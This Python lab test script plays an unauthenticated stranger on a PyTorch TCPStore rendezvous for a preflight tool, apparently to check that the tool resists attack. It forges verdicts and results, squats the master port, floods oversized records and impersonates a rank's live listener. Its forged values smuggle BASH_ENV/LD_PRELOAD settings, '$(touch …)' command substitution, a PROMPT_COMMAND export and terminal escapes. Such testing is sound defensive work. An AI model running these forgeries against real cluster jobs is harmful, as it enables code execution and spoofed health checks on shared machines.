"""A stranger on the network of a preflight (issue 21): with torch's own TCPStore client (or server, to squat the
master port) it writes what a peer could write. Run on a lab host: python -m tests.lab.stranger MODE ADDR PORT.

Key names and the prefix come from the product (ncclcheck.preflight.keys, rendezvous.roles.run_prefix), so a renamed
key is attacked under its new name. Modes:
  forge      world/result with BASH_ENV, LD_PRELOAD and a `$(touch CANARY)` value, world/final exit 0; rewritten
             every 50 ms so that every node reads the forgery whenever it looks
  malformed  a join record that is a JSON list, and one whose check has status "bogus"
  counter    join/count raised by 10^9
  oversized  sixteen 7 MiB join records and a 7 MiB world/result (torch's server refuses values over 8 MiB)
  squat      host the store on the master port before node 0 does, with a forged verdict, result and exit 0
  pass       once, as soon as the store is up: a forged verdict "ok" (where every member looks first, written only
             while node 0 has not published its own), a forged exit code 0 and a join record for node rank 1
  live       the live plane (`ncclcheck watch`): once rank --rank of an armed job registered, its record points at a
             listener of this host that answers in that rank's name (every collective completed, nothing hangs),
             without the job's key; the record is written again every second
--job-id is the launcher's job id (the run's key prefix; `squeue` looks it up, as any user of the cluster can);
--guard: the run is ncclcheck.guard()'s (its prefix is the job id's with "-guard0").
Prints one JSON line of what it did; exits when the store goes away or after --hold seconds.
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import os
import subprocess
import sys
import time

from ncclcheck.preflight import keys as K
from ncclcheck.rendezvous.roles import run_prefix

EVIL = {"BASH_ENV": "{canary_dir}/evil.sh", "LD_PRELOAD": "{canary_dir}/evil.so"}


def forged_result(canary: str) -> dict:
    d = os.path.dirname(canary)
    recs = [{"name": n, "value": v.format(canary_dir=d), "node": None, "reason": "faster"} for n, v in EVIL.items()]
    recs += [{"name": "NCCL_SOCKET_IFNAME", "value": f"$(touch {canary})", "node": None,
              "reason": f"fastest\nexport PROMPT_COMMAND='touch {canary}'"},
             {"name": "GLOO_SOCKET_IFNAME", "value": "eth0", "node": 1, "reason": "\x1b]0;owned\x07 same"}]
    ok = {"id": "rendezvous.world", "status": "pass", "node": None, "summary": "all 3 nodes joined", "detail": "",
          "fix": "", "evidence": {}}
    return {"checks": [ok], "local": [], "recommendations": recs, "mesh": {}}


def _connect(addr: str, port: int, until: float, master: bool = False):
    import torch.distributed as dist

    while True:
        try:
            if master:
                return dist.TCPStore(addr, port, None, True, timeout=dt.timedelta(seconds=5), wait_for_workers=False)
            return dist.TCPStore(addr, port, None, False, timeout=dt.timedelta(seconds=2))
        except Exception:  # noqa: BLE001 - not up yet: a stranger keeps trying
            if time.monotonic() > until:
                raise
            time.sleep(0.05)


def _job_id(arg: str, until: float) -> str:
    """The job id as given, or (`squeue`) the first running job's, looked up until one runs."""
    while arg == "squeue":
        p = subprocess.run(["squeue", "-h", "-t", "R", "-o", "%i"], capture_output=True, text=True, timeout=10)
        if p.stdout.split():
            return p.stdout.split()[0]
        if time.monotonic() > until:
            raise SystemExit("no running job")
        time.sleep(0.1)
    return arg


def _forge_live(store, a, until: float) -> str:
    """Point rank a.rank's live record at a listener of this host answering in its name (see the module's doc)."""
    import socket
    import threading

    from ncclcheck.live import wire
    from ncclcheck.live.responder import job_address
    from ncclcheck.rendezvous.budget import FIXED

    key = wire.rank_key(a.rank)
    while not store.check([key]):
        if time.monotonic() > until:
            return f"rank {a.rank} never registered"
        time.sleep(0.2)
    raw = store.get(key).decode()
    real = json.loads(raw.split(":", 3)[3] if raw.startswith("ncclcheck-hmac2:") else raw)  # signed or not: its JSON
    listener = socket.create_server(("0.0.0.0", 0))
    forged = {**real, "addr": job_address(a.addr, a.port), "port": listener.getsockname()[1]}
    reply = json.dumps({"v": wire.VERSION, "rank": a.rank, "job": real["job"], "run": real["run"], "pid": real["pid"],
                        "host": real["host"], "progress": {"0": {"enqueued": 99, "started": 99, "completed": 99}},
                        "flight": {"entries": [], "pg_status": {"0": {"last_enqueued_collective": "99",
                                                                      "last_completed_collective": "99"}}},
                        "stacks": []}).encode()
    answered: list = []

    def serve() -> None:
        while True:
            try:
                c, _ = listener.accept()
            except OSError:
                return
            with c:
                try:
                    c.settimeout(5)
                    wire.send_frame(c, json.dumps({"v": wire.VERSION, "rank": a.rank, "challenge": "a" * 32,
                                                   "auth": real["auth"], "job": real["job"],
                                                   "run": real["run"]}).encode())
                    wire.recv_frame(c, wire.MAX_REQUEST, FIXED.deadline(5), FIXED)
                    wire.send_frame(c, reply)
                    answered.append(1)
                except (OSError, ValueError, TimeoutError):
                    pass

    threading.Thread(target=serve, daemon=True).start()
    store.set(key, json.dumps(forged))
    print(json.dumps({"mode": a.mode, "did": [f"rank {a.rank}'s record -> {forged['addr']}:{forged['port']}"]}),
          flush=True)
    while time.monotonic() < until:  # written again: the real rank does not register twice, but be sure
        try:
            store.set(key, json.dumps(forged))
        except Exception:  # noqa: BLE001 - the store went away: the job is over
            break
        time.sleep(1)
    return f"rank {a.rank}'s record forged; its listener answered {len(answered)} requests"


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["forge", "malformed", "counter", "oversized", "squat", "pass", "live"])
    ap.add_argument("addr")
    ap.add_argument("port", type=int)
    ap.add_argument("--canary", required=True)
    ap.add_argument("--hold", type=float, default=90.0)
    ap.add_argument("--job-id", default="nojob")
    ap.add_argument("--guard", action="store_true")
    ap.add_argument("--rank", type=int, default=0, help="live: the rank whose record is forged")
    a = ap.parse_args()
    start = time.monotonic()
    until = start + a.hold
    prefix = run_prefix(_job_id(a.job_id, until) + ("-guard0" if a.guard else ""))
    store = _connect("0.0.0.0" if a.mode == "squat" else a.addr, a.port, until, master=a.mode == "squat")
    connected = time.monotonic() - start

    def put(key: str, value) -> None:
        store.set(prefix + key, value if isinstance(value, (bytes, str)) else json.dumps(value))

    did: list = []
    if a.mode in ("forge", "squat"):
        if a.mode == "squat":
            put(K.HOST, {"hostname": "h1", "pid": 1, "uuid": "squatter"})
            put(K.VERDICT, {"ok": True, "nnodes": 3, "elapsed_s": 0.1, "last_join": 99, "members_n": 3})
            put(K.RESULT, forged_result(a.canary))
            put(K.FINAL, {"exit_code": 0})
            did.append("squatted the port: host, verdict, forged result and final exit 0")
            print(json.dumps({"listening": True, "mode": a.mode, "did": did}), flush=True)
        try:
            while time.monotonic() < until:
                put(K.RESULT, forged_result(a.canary))
                put(K.FINAL, {"exit_code": 0})
                if not did:
                    did.append("forged result and final exit 0")
                    print(json.dumps({"mode": a.mode, "connected_after_s": round(connected, 2), "did": did}),
                          flush=True)
                time.sleep(0.05)
        except Exception as exc:  # noqa: BLE001 - the store went away: the run is over
            did.append(f"store gone: {type(exc).__name__}")
    elif a.mode == "malformed":
        i = store.add(prefix + K.JOIN_COUNT, 1)
        put(K.JOIN_RECORD.format(i), [1, 2, 3])
        j = store.add(prefix + K.JOIN_COUNT, 1)
        put(K.JOIN_RECORD.format(j), {"node_rank": 2, "nnodes": 3, "hostname": "stranger", "pid": 1, "uuid": "s",
                               "launcher": "ncclcheck", "facts": {},
                               "checks": [{"id": "x.y", "status": "bogus", "node": 2, "summary": "s", "detail": "",
                                           "fix": "", "evidence": {}}]})
        did.append(f"join/{i} a list, join/{j} a bogus status")
    elif a.mode == "pass":
        if not store.check([prefix + K.VERDICT]):
            put(K.VERDICT, {"ok": True, "nnodes": 3, "elapsed_s": 0.1, "last_join": 99, "members_n": 3})
            did.append("forged verdict ok")
        put(K.FINAL, {"exit_code": 0})
        i = store.add(prefix + K.JOIN_COUNT, 1)
        put(K.JOIN_RECORD.format(i), {"node_rank": 1, "nnodes": 3, "hostname": "stranger", "pid": 1, "uuid": "s",
                                      "launcher": "slurm", "facts": {}, "checks": []})
        did.append(f"forged final exit 0 and join/{i}")
    elif a.mode == "live":
        did.append(_forge_live(store, a, until))
    elif a.mode == "counter":
        did.append(f"join/count now {store.add(prefix + K.JOIN_COUNT, 10**9)}")
    elif a.mode == "oversized":
        # torch's store server refuses a value over 8 MiB (MAX_PAYLOAD_LEN): many values just under it instead.
        big = "A" * (7 << 20)
        for _ in range(16):
            i = store.add(prefix + K.JOIN_COUNT, 1)
            put(K.JOIN_RECORD.format(i), json.dumps({"node_rank": 1, "nnodes": 3, "hostname": "stranger", "pid": 1,
                                              "uuid": f"s{i}", "facts": {"x": big}, "checks": []}))
            did.append(f"join/{i} of 7 MiB")
        put(K.RESULT, json.dumps({"checks": [], "local": [], "recommendations": [], "mesh": {"x": big}}))
        did.append("world/result of 7 MiB")
    if a.mode in ("forge", "squat"):
        return 0
    print(json.dumps({"mode": a.mode, "connected_after_s": round(connected, 2), "did": did}), flush=True)
    if a.mode == "live":
        return 0
    # Stay connected (a client going away is not what is tested), until the store goes or the hold ends.
    while time.monotonic() < until:
        try:
            store.check([prefix + K.HOST])
        except Exception:  # noqa: BLE001
            break
        time.sleep(0.5)
    return 0


if __name__ == "__main__":
    sys.exit(main())
